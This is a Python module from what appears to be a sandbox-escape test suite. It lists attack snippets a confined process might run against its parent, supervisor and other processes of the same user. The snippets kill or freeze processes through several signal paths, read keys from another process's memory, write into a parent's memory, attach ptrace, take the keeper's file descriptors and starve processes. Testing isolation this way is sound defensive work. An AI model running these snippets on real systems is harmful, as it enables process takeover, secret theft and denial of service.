"""Processes beside the guest: its parent and zygote, its keeper, and others of the same user."""

from __future__ import annotations

from toolwright.escape.attack import Family, changed, got_secret, reached, says

attack = Family("processes")

ATTACKS = (
    attack(
        "signals to others",
        """
        import signal
        return loot(lambda: os.kill(it["victim"], signal.SIGKILL), lambda: os.killpg(it["victim"], signal.SIGKILL))
        """,
        changed,
        gain="ends any process of the same user",
    ),
    attack(
        "signals by descriptors of processes",
        """
        import signal
        return loot(lambda: signal.pidfd_send_signal(os.pidfd_open(it["victim"]), signal.SIGKILL))
        """,
        changed,
        gain="ends a process by a call that a list of signal calls may have forgotten",
    ),
    attack(
        "signals by way of descriptor owners",
        """
        import fcntl, signal
        reading, writing = os.pipe()
        def own():
            fcntl.fcntl(reading, fcntl.F_SETOWN, it["victim"])
            fcntl.fcntl(reading, 10, signal.SIGKILL)
            fcntl.fcntl(reading, fcntl.F_SETFL, os.O_ASYNC | os.O_NONBLOCK)
            os.write(writing, b"x")
            time.sleep(0.2)
        return loot(own)
        """,
        changed,
        gain="has the kernel send SIGKILL in its stead",
    ),
    attack(
        "queued signals",
        """
        import ctypes
        victim = it["victim"]
        info = (ctypes.c_int * 32)(9, 0, -1)
        return loot(lambda: syscall("rt_sigqueueinfo", victim, 9, info),
                    lambda: syscall("rt_tgsigqueueinfo", victim, victim, 9, info))
        """,
        changed,
        gain="ends a process by a signal with a forged sender",
    ),
    attack(
        "a process that is stopped and not ended",
        """
        import signal
        return loot(lambda: os.kill(it["victim"], signal.SIGSTOP))
        """,
        changed,
        gain="freezes whoever watches over it, so that no limit is held any more",
    ),
    attack(
        "every process at once",
        'return loot(lambda: "reached: %s" % os.kill(-1, 0), lambda: "reached: %s" % os.killpg(os.getpgid(0), 0))[:1]',
        says('"reached: '),
        gain="signals all processes of its user with one call",
    ),
    attack(
        "its parent",
        """
        parent = os.getppid()
        return loot(lambda: "reached: %s" % os.kill(parent, 0)) if parent else "none is seen"
        """,
        says('"reached: '),
        gain="signals the zygote that all later guests come from",
    ),
    attack(
        "the memory of another process",
        """
        import ctypes
        victim = it["victim"]
        def steal():
            with_stack = [line for line in read(f"/proc/{victim}/maps").splitlines() if "[stack]" in line]
            start, end = (int(part, 16) for part in with_stack[0].split()[0].split("-"))
            room = ctypes.create_string_buffer(end - start)
            ours = (ctypes.c_size_t * 2)(ctypes.addressof(room), end - start)
            theirs = (ctypes.c_size_t * 2)(start, end - start)
            got = syscall("process_vm_readv", victim, ours, 1, theirs, 1, 0)
            return room.raw[max(got - 4000, 0):got].decode("latin-1")
        return loot(steal)
        """,
        got_secret,
        gain="reads keys out of the memory of a process of the same user",
    ),
    attack(
        "the memory file of another process",
        """
        victim = it["victim"]
        def steal():
            with_stack = [line for line in read(f"/proc/{victim}/maps").splitlines() if "[stack]" in line]
            start, end = (int(part, 16) for part in with_stack[0].split()[0].split("-"))
            with open(f"/proc/{victim}/mem", "rb", buffering=0) as file:
                file.seek(end - 4096)
                return file.read(4096).decode("latin-1")
        return loot(steal)
        """,
        got_secret,
        gain="reads the same by a file, where only the call was thought of",
    ),
    attack(
        "the memory of its parent rewritten",
        """
        import ctypes
        parent, word = os.getppid(), ctypes.create_string_buffer(b"x" * 8)
        here = ctypes.addressof(word)  # a fork has the same addresses as the process it comes from
        place = id(os) & ~7
        one = (ctypes.c_size_t * 2)(here, 8)
        other = (ctypes.c_size_t * 2)(place, 8)
        def through_call():
            syscall("process_vm_readv", parent, one, 1, other, 1, 0)
            return "written: %d" % syscall("process_vm_writev", parent, one, 1, other, 1, 0)
        def through_file():
            with open(f"/proc/{parent}/mem", "r+b", buffering=0) as file:
                file.seek(place)
                same = file.read(8)
                file.seek(place)
                return "written: %d" % file.write(same)
        return loot(through_call, through_file)
        """,
        says('"written: '),
        gain="puts code into the zygote: from then on it is every later guest, without a wall",
    ),
    attack(
        "a debugger on others",
        """
        victim, parent = it["victim"], os.getppid()
        def attach(pid):
            syscall("ptrace", 0x4206, pid, 0, 0)  # PTRACE_SEIZE, which stops nobody
            return "attached"
        return loot(lambda: attach(victim), lambda: attach(parent))
        """,
        says('"attached'),
        gain="controls every step of another process",
    ),
    attack(
        "a descriptor taken out of another process",
        """
        found = []
        for pid in (it["victim"], os.getppid(), it["host"]):
            for number in range(3):
                found += loot(lambda: "taken: %d" % syscall("pidfd_getfd", os.pidfd_open(pid), number, 0))
        return found
        """,
        says('"taken: '),
        gain="holds open files and sockets of its keeper: the control channel, connections of other tools",
    ),
    attack(
        "addresses of another process",
        """
        import ctypes
        def robust(pid):
            head, size = ctypes.c_size_t(), ctypes.c_size_t()
            number = 274 if platform.machine() == "x86_64" else 100
            syscall(number, pid, ctypes.byref(head), ctypes.byref(size))
            return "list at %d, of %d" % (head.value, size.value)
        return loot(lambda: robust(it["victim"]), lambda: robust(it["host"]))
        """,
        says('"list at '),
        gain="learns where the memory of another process lies, which later attacks need",
    ),
    attack(
        "limits of another process",
        """
        import resource
        def limit():
            old = resource.prlimit(it["victim"], resource.RLIMIT_NOFILE)
            return "set: %s %s" % (old, resource.prlimit(it["victim"], resource.RLIMIT_NOFILE, (3, 3)))
        return loot(limit)
        """,
        says('"set: '),
        gain="makes a process of the same user fail at its next step",
    ),
    attack(
        "the priority of another process",
        """
        def slow():
            os.setpriority(os.PRIO_PROCESS, it["victim"], 19)
            return "set"
        def bind():
            os.sched_setaffinity(it["victim"], os.sched_getaffinity(it["victim"]))
            return "set"
        return loot(slow, bind, lambda: "set" + str(syscall("ioprio_set", 1, it["victim"], 3 << 13)))
        """,
        says('"set'),
        gain="starves a process of the same user",
    ),
    attack(
        "memory of another process moved about",
        """
        import ctypes
        victim = it["victim"]
        def advise():
            words = (ctypes.c_size_t * 2)(0, 0)
            return syscall("process_madvise", os.pidfd_open(victim), words, 0, 20, 0)
        mask = (ctypes.c_ulong * 2)(1, 0)
        return doors(process_madvise=advise,
                     migrate_pages=lambda: syscall("migrate_pages", victim, 64, mask, mask),
                     move_pages=lambda: syscall("move_pages", victim, 0, None, None, None, 0),
                     kcmp=lambda: syscall("kcmp", os.getpid(), victim, 0, 1, 1))
        """,
        reached,
        gain="slows another process down, or learns what it shares",
    ),
    attack(
        "a list of processes",
        """
        return loot(lambda: "processes: " + str([name for name in os.listdir("/proc") if name.isdigit()][:9]))
        """,
        says('"processes: '),
        gain="sees what else runs here, with its arguments",
    ),
    attack(
        "processes counted one by one",
        """
        import ctypes
        libc, mine, found = ctypes.CDLL(None), os.getpid(), set()
        calls = (libc.getpgid, libc.getsid, lambda pid: libc.getpriority(0, pid), libc.sched_getscheduler,
                 lambda pid: libc.sched_getaffinity(pid, 8, ctypes.byref(ctypes.c_ulong())),
                 lambda pid: libc.kill(pid, 0), lambda pid: libc.sched_getparam(pid, ctypes.byref(ctypes.c_int())))
        for call in calls:
            found |= {pid for pid in (it["victim"], it["host"]) if pid != mine and call(pid) >= 0}
        return "seen: " + str(sorted(found)) if it["victim"] in found else "none"
        """,
        says("seen: "),
        gain="learns which processes there are, when they start and end, without any list",
    ),
)
